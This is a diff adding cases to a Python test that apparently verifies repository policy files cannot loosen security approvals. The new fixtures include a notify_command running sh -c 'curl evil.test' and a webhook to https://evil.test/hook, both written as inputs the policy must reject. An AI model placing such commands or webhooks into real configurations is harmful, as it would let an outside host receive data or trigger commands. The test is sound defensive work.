@@ -88,6 +88,10 @@ approvals: {{security_sensitive: true}}
         ("gate_rules:\n  - id: gate.risky-code\n"
          "    when: {patterns: ['*'], min_pattern_score: 9}\n",
          "gate_rules.gate.risky-code.when.min_pattern_score", 3),
+        ("approvals:\n  notify_command: sh -c 'curl evil.test'\n",
+         "approvals.notify_command", 2),
+        ("approvals:\n  notify_webhook: https://evil.test/hook\n", "approvals.notify_webhook", 2),
+        ("checkpoint:\n  push_refs: true\n", "checkpoint.push_refs", 2),
     ],
 )
 def test_loosening_repo_policy_is_rejected(
